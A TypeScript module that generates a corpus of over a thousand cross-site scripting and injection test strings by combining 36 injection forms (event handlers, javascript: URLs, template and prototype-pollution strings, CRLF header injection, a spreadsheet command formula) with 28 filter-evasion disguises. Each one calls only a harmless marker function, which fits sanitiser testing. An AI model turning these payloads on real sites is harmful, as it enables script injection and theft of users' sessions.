// Texts written to be run instead of read: more than a thousand, each of which would call `ran` if any page took it for more
// than text. Made here, from ways in × disguises.

type Form = (act: string) => string;

const ways: readonly Form[] = [
  (act) => `<script>${act}</script>`,
  (act) => `<img src=x onerror=${act}>`,
  (act) => `<svg onload=${act}>`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  (act) => `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  (act) => `<iframe src="javascript:parent.${act}"></iframe>`,
  (act) => `<a href="javascript:${act}" autofocus onfocus=${act}>x</a>`,
  (act) => `<details open ontoggle=${act}>`,
  (act) => `<input autofocus onfocus=${act}>`,
  (act) => `<body onload=${act} onpageshow=${act}>`,
  (act) => `<video><source onerror=${act}></video>`,
  (act) => `<audio src=x onerror=${act}>`,
  (act) => `<object data="javascript:${act}"></object>`,
  (act) => `<embed src="javascript:${act}">`,
  (act) => `<form action="javascript:${act}"><button autofocus>x</button></form>`,
  (act) => `<button formaction="javascript:${act}">x</button>`,
  (act) => `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  (act) => `<base href="javascript:${act}//">`,
  (act) => `<link rel=stylesheet href="data:text/css,*{color:red}" onload=${act}>`,
  (act) => `<style onload=${act}>@import "data:text/css,*{color:red}"</style>`,
  (act) => `<marquee onstart=${act}>x</marquee>`,
  (act) => `<math><a xlink:href="javascript:${act}">x</a></math>`,
  (act) => `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  (act) => `<template><script>${act}</script></template>`,
  (act) => `<x contenteditable onblur=${act} autofocus tabindex=1>`,
  (act) => `<p style="animation:x" onanimationstart=${act}>`,
  (act) => `{{constructor.constructor('${act}')()}}`,
  (act) => `\${${act}}#{${act}}<%=${act}%>`,
  (act) => `[look](javascript:${act})`,
  (act) => `see ![look](x"onerror="${act})`,
  (act) => `javascript:${act}`,
  (act) => `data:text/html,<script>parent.${act}</script>`,
  (act) => `{"__proto__":{"innerHTML":"<img src=x onerror=${act}>"}}`,
  (act) => `x\r\nSet-Cookie: a=b\r\nContent-Type: text/html\r\n\r\n<script>${act}</script>`,
  (act) => `https://h.example/"onmouseover="${act}`,
];

const disguises: readonly Form[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll('RAN(', 'ran('),
  (text) => `"'></title></style></script></textarea></main>-->]]>${text}`,
  (text) => `' autofocus onfocus=${/ran\(\d+\)/.exec(text)?.[0] ?? ''} x='${text}`,
  (text) => text.replaceAll('<', '&lt;').replaceAll('"', '&#34;'),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replace(/script/gi, 'scr\u200bipt').replace('<', '<\u00a0'),
  (text) => text.replace(/ on/g, '/\ton').replace(/javascript/g, 'java\tscript'),
  (text) => `<<${text}//<`,
  (text) => JSON.stringify(text),
  (text) => `\u202e${text}\u2066`,
  (text) => text.replace('<', '<\u0301').concat(text),
  (text) => `<!--${text}--!>${text}`,
  (text) => `<b title='${text}'>${text}</b>`,
  (text) => `https://graphs.example/d/x?from=now-1h&q=${text}`,
  (text) => `\\u003c${text.slice(1)}\\x3c${text}`,
  (text) => `@${text} #${text}`,
  (text) => `14:47 ${text}`,
  (text) => `<div><!--><svg/onload=${/ran\(\d+\)/.exec(text)?.[0] ?? ''}>${text}`,
  (text) => `‘${text}’ \u{1f525}`,
  (text) => `${text}\n\n\t${text}`,
  (text) => `<a href='${text}' target=_top>${text}</a>`,
  (text) => `=cmd|'${text}'!A1`,
  (text) => `%3Cimg%20src=x%20onerror=${encodeURIComponent(text)}%3E`,
  (text) => text.split('').join('\u200d'),
  (text) => `</p><${text}`,
  (text) => `\ufeff${text}`,
];

export const hostileTexts: readonly string[] = ways.flatMap((way, at) =>
  disguises.map((disguise, by) => disguise(way(`ran(${at * disguises.length + by})`))),
);

/** As many of them in each piece as a field takes; one that is longer than the field is cut off. */
export function piecesOf(longest: number): string[] {
  return hostileTexts.reduce<string[]>((pieces, text) => {
    const last = pieces.at(-1);
    const together = last === undefined ? null : `${last} ${text}`;
    if (together === null || together.length > longest) pieces.push(cut(text, longest));
    else pieces[pieces.length - 1] = together;
    return pieces;
  }, []);
}

/** Its beginning, and no half of a character. */
export function cut(text: string, longest: number): string {
  return text.slice(0, longest).replace(/[\ud800-\udbff]$/, '');
}
